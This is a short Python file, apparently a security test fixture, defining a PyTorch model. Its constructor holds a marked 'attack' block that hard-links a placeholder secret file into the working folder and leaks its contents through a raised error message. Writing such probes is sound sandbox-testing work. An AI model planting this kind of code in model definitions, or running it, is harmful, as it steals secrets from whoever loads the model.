"""Makes a second name for a secret in its own folder, and reads that."""

import os

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        os.link("@SECRET_FILE@", "here")
        raise ValueError(open("here").read())
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
